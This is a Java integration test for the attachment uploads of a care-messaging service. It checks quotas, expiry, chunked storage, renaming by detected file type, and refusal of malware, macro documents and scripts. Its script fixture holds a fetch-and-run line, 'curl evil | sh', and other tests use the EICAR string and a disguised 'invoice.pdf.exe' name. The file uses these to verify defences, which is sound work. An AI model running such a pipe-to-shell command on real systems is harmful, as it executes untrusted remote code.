package com.carerelay.messaging;

import static com.carerelay.events.DirectoryChanged.PortalStatus.active;
import static com.carerelay.events.DirectoryChanged.PortalStatus.revoked;
import static org.assertj.core.api.Assertions.assertThat;

import com.carerelay.events.DirectoryChanged;
import com.carerelay.messaging.attachment.ClamdStandIn;
import com.carerelay.messaging.attachment.OfficeFiles;
import com.carerelay.messaging.attachment.UnsentUploads;
import com.carerelay.testing.Http;
import java.net.http.HttpClient;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.HexFormat;
import java.util.Random;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Import;
import org.springframework.context.annotation.Primary;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.context.TestPropertySource;

/**
 * Uploads are bounded (#16.5): who may upload, the quota of unsent uploads, their expiry, streaming
 * into chunks, names from the detected type, and the malware scan through a clamd stand-in that
 * speaks INSTREAM and detects EICAR, fail closed.
 */
@TestPropertySource(properties = {"carerelay.attachments.quota.max-unsent-files=3",
        "carerelay.attachments.quota.max-unsent-size=3MB", "carerelay.attachments.unsent-ttl=24h",
        "carerelay.attachments.clamav.timeout=2s"})
@Import(UploadsIT.Clocks.class)
class UploadsIT extends MessagingIntegrationTest {

    static final ClamdStandIn CLAMD = new ClamdStandIn().start();
    static final MovableClock CLOCK = new MovableClock();
    static final String[] CLINICIAN = {"message:send", "message:send-client"};

    @DynamicPropertySource
    static void clamd(DynamicPropertyRegistry registry) {
        registry.add("carerelay.attachments.clamav.host", () -> "127.0.0.1");
        registry.add("carerelay.attachments.clamav.port", CLAMD::port);
    }

    @TestConfiguration
    static class Clocks {
        @Bean
        @Primary
        Clock movableClock() {
            return CLOCK;
        }
    }

    @AfterAll
    static void stopClamd() {
        CLAMD.close();
    }

    @Autowired
    UnsentUploads unsent;

    Practice practice;
    UUID dana;
    String danaToken;
    UUID sam;
    UUID jordan;

    @BeforeEach
    void givenAClinicianAndAClient() {
        practice = newPractice();
        dana = practice.staff("Dana", "Reyes", true, CLINICIAN);
        danaToken = practice.token(dana, CLINICIAN);
        sam = practice.staff("Sam", "Okafor", true, "message:send");
        jordan = practice.client("Jordan", "Avery", null, active);
    }

    @Test
    void eicarIsRefusedWith422AndNothingIsStored() {
        Http.Response infected = upload(danaToken, "eicar.txt", "text/plain", ClamdStandIn.EICAR.getBytes(StandardCharsets.US_ASCII));

        assertThat(infected.status()).as(infected.toString()).isEqualTo(422);
        assertThat(infected.isProblem()).isTrue();
        assertThat(infected.json().get("detail").asString()).contains("malware");
        assertThat(storedBy(dana)).isZero();
    }

    @Test
    void aCleanFileIsScannedStoredInChunksAndDownloadsIntact() throws Exception {
        byte[] big = new byte[2 * 1024 * 1024 + 123];
        new Random(7).nextBytes(big);
        System.arraycopy(ComposeIT.pdf(), 0, big, 0, ComposeIT.pdf().length);
        int scansBefore = CLAMD.scans();

        Http.Response clean = upload(danaToken, "scan.pdf", "application/pdf", big);

        assertThat(clean.status()).as(clean.toString()).isEqualTo(201);
        assertThat(CLAMD.scans()).isEqualTo(scansBefore + 1);
        String id = clean.json().get("id").asString();
        assertThat(clean.json().get("sha256").asString())
                .isEqualTo(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(big)));
        assertThat(jdbc.queryForObject("select count(*) from attachment_chunk where attachment_id = ?::uuid", Long.class, id))
                .isEqualTo(3);
        HttpResponse<byte[]> download = HttpClient.newHttpClient().send(http().request("/api/v1/attachments/" + id,
                danaToken).GET().build(), HttpResponse.BodyHandlers.ofByteArray());
        assertThat(download.statusCode()).isEqualTo(200);
        assertThat(download.headers().firstValueAsLong("Content-Length")).hasValue(big.length);
        assertThat(download.body()).isEqualTo(big);
    }

    @Test
    void withTheScannerDownAnUploadAnswers503WithRetryAfterAndNothingIsStored() {
        CLAMD.stop();
        try {
            Http.Response unscanned = upload(danaToken, "form.pdf", "application/pdf", ComposeIT.pdf());

            assertThat(unscanned.status()).as(unscanned.toString()).isEqualTo(503);
            assertThat(unscanned.isProblem()).isTrue();
            assertThat(unscanned.raw().headers().firstValue("Retry-After")).isPresent();
            assertThat(storedBy(dana)).isZero();
        } finally {
            CLAMD.start();
        }
        assertThat(upload(danaToken, "form.pdf", "application/pdf", ComposeIT.pdf()).status()).isEqualTo(201);
    }

    @Test
    void theStoredNameEndsInTheDetectedTypesExtension() {
        assertThat(upload(danaToken, "invoice.pdf.exe", "application/x-msdownload", ComposeIT.pdf()).json()
                .get("fileName").asString()).isEqualTo("invoice.pdf");
        Http.Response docx = upload(danaToken, "report.pdf", "application/pdf",
                OfficeFiles.ooxmlWord(OfficeFiles.DOCX_MAIN, false));
        assertThat(docx.json().get("fileName").asString()).isEqualTo("report.docx");
        assertThat(docx.json().get("mediaType").asString()).isEqualTo(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
    }

    @Test
    void macroDocumentsAndScriptsAreRefusedNamingTheReasonAndNothingIsStored() {
        Http.Response docm = upload(danaToken, "plan.docm", "application/octet-stream",
                OfficeFiles.ooxmlWord(OfficeFiles.DOCM_MAIN, true));
        assertThat(docm.status()).isEqualTo(415);
        assertThat(docm.json().get("detail").asString()).contains("Office documents with macros");
        Http.Response doc = upload(danaToken, "old.doc", "application/msword", OfficeFiles.ole("WordDocument", "Macros", "VBA"));
        assertThat(doc.status()).isEqualTo(415);
        Http.Response script = upload(danaToken, "notes.txt", "text/plain", "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.US_ASCII));
        assertThat(script.status()).isEqualTo(415);
        assertThat(script.isProblem()).isTrue();
        assertThat(script.json().get("detail").asString()).contains("scripts");
        assertThat(storedBy(dana)).isZero();
    }

    @Test
    void theQuotaOfUnsentUploadsAnswers429NamingItUntilOneIsSentOrRemoved() {
        String first = upload(danaToken, "1.pdf", "application/pdf", ComposeIT.pdf()).json().get("id").asString();
        upload(danaToken, "2.pdf", "application/pdf", ComposeIT.pdf());
        upload(danaToken, "3.pdf", "application/pdf", ComposeIT.pdf());

        Http.Response fourth = upload(danaToken, "4.pdf", "application/pdf", ComposeIT.pdf());
        assertThat(fourth.status()).isEqualTo(429);
        assertThat(fourth.isProblem()).isTrue();
        assertThat(fourth.json().get("detail").asString()).contains("3 unsent files");
        assertThat(fourth.raw().headers().firstValue("Retry-After")).isPresent();
        assertThat(storedBy(dana)).isEqualTo(3);

        assertThat(send(danaToken, sam, first).status()).isEqualTo(201);
        assertThat(upload(danaToken, "4.pdf", "application/pdf", ComposeIT.pdf()).status()).isEqualTo(201);

        UUID pat = practice.staff("Pat", "Rivera", true, CLINICIAN);
        String patToken = practice.token(pat, CLINICIAN);
        byte[] twoMegabytes = new byte[2 * 1024 * 1024];
        System.arraycopy(ComposeIT.pdf(), 0, twoMegabytes, 0, ComposeIT.pdf().length);
        String big = upload(patToken, "big.pdf", "application/pdf", twoMegabytes).json().get("id").asString();
        Http.Response tooMuch = upload(patToken, "big2.pdf", "application/pdf", twoMegabytes);
        assertThat(tooMuch.status()).isEqualTo(429);
        assertThat(tooMuch.json().get("detail").asString()).contains("3 MB of unsent files");
        assertThat(http().delete("/api/v1/attachments/" + big, patToken).status()).isEqualTo(204);
        assertThat(upload(patToken, "big2.pdf", "application/pdf", twoMegabytes).status()).isEqualTo(201);
    }

    @Test
    void unsentUploadsExpireAndTheSweepDeletesThemButNeverOnesThatWereSent() {
        String unsentId = upload(danaToken, "draft.pdf", "application/pdf", ComposeIT.pdf()).json().get("id").asString();
        String sentId = upload(danaToken, "sent.pdf", "application/pdf", ComposeIT.pdf()).json().get("id").asString();
        assertThat(send(danaToken, sam, sentId).status()).isEqualTo(201);

        CLOCK.advance(Duration.ofHours(25));
        try {
            assertThat(send(danaToken, sam, unsentId).status()).as("expired, even before the sweep").isEqualTo(400);
            unsent.sweep();
        } finally {
            CLOCK.advance(Duration.ofHours(-25));
        }

        assertThat(jdbc.queryForObject("select count(*) from attachment where id = ?::uuid", Long.class, unsentId)).isZero();
        assertThat(jdbc.queryForObject("select count(*) from attachment_chunk where attachment_id = ?::uuid", Long.class,
                unsentId)).isZero();
        assertThat(jdbc.queryForObject("select count(*) from attachment_chunk where attachment_id = ?::uuid", Long.class,
                sentId)).isEqualTo(1);
        assertThat(http().get("/api/v1/attachments/" + sentId, practice.token(sam, "message:send")).status()).isEqualTo(200);
    }

    @Test
    void onlySomeoneWhoMaySendMayUploadAndOnlyTheUploaderMayAttachIt() {
        UUID riley = practice.client("Riley", "Chen", null, active);
        Http.Response noCareTeam = upload(practice.clientToken(riley), "a.pdf", "application/pdf", ComposeIT.pdf());
        assertThat(noCareTeam.status()).as("no one has messaged Riley, so there is nothing to attach to").isEqualTo(403);
        assertThat(noCareTeam.isProblem()).isTrue();

        assertThat(http().post("/api/v1/messages", danaToken, """
                {"subject":"Hello","body":"Welcome.","recipients":{"clientIds":["%s"]}}""".formatted(jordan)).status())
                .isEqualTo(201);
        Http.Response jordans = upload(practice.clientToken(jordan), "a.pdf", "application/pdf", ComposeIT.pdf());
        assertThat(jordans.status()).as(jordans.toString()).isEqualTo(201);

        practice.publish(DirectoryChanged.ofClient(jordan, practice.id, 2, new DirectoryChanged.Client("Jordan", "Avery",
                null, "jordan@client.example", revoked, true, false)));
        awaitPortalStatus(jordan, "revoked");
        assertThat(upload(practice.clientToken(jordan), "b.pdf", "application/pdf", ComposeIT.pdf()).status())
                .as("portal access revoked in the directory").isEqualTo(403);

        UUID former = practice.staff("Lee", "Former", false, CLINICIAN);
        assertThat(upload(practice.token(former, CLINICIAN), "a.pdf", "application/pdf", ComposeIT.pdf()).status())
                .as("inactive in the directory").isEqualTo(403);

        String danas = upload(danaToken, "a.pdf", "application/pdf", ComposeIT.pdf()).json().get("id").asString();
        assertThat(send(practice.token(sam, "message:send"), dana, danas).status()).as("not Sam's upload").isEqualTo(400);
        assertThat(storedBy(former) + storedBy(riley)).isZero();
    }

    private Http.Response send(String token, UUID to, String attachmentId) {
        return http().post("/api/v1/messages", token, """
                {"subject":"Forms","body":"Attached.","recipients":{"staffIds":["%s"]},"attachmentIds":["%s"]}"""
                .formatted(to, attachmentId));
    }

    private long storedBy(UUID uploader) {
        return jdbc.queryForObject("select count(*) from attachment where uploaded_by = ?", Long.class, uploader);
    }

    private void awaitPortalStatus(UUID client, String status) {
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> status.equals(jdbc.queryForObject(
                "select portal_status from directory_entry where id = ?", String.class, client)));
    }

    /** A clock the test moves (expiry). */
    static final class MovableClock extends Clock {
        private volatile Duration offset = Duration.ZERO;

        void advance(Duration by) {
            offset = offset.plus(by);
        }

        @Override
        public ZoneId getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(ZoneId zone) {
            return this;
        }

        @Override
        public Instant instant() {
            return Instant.now().plus(offset);
        }
    }
}
